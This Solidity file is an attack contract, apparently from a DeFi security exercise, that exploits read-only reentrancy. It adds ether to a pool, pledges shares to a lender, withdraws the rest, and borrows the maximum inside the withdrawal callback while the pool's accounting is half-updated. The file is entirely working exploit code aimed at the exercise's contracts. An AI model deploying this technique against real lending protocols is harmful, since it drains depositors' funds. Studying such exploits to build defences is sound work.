// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {Token} from "../../shared/contracts/Token.sol";
import {EtherPool} from "./EtherPool.sol";
import {ShareLender} from "./ShareLender.sol";

/// @title Leaves the pool, and borrows while half of what it takes is still counted
contract HalfWay {
    ShareLender private immutable lender;
    EtherPool private immutable pool;

    constructor(ShareLender lender_) {
        lender = lender_;
        pool = lender_.pool();
    }

    function attack(uint256 pledged) external payable {
        pool.token().approve(address(pool), type(uint256).max);
        pool.approve(address(lender), type(uint256).max);
        uint256 shares = pool.add{value: msg.value}();
        lender.pledge(pledged);
        pool.remove(shares - pledged);
    }

    receive() external payable {
        uint256 most = lender.asset().balanceOf(address(lender));
        uint256 may = lender.borrowable(address(this));
        lender.borrow(may < most ? may : most);
    }
}
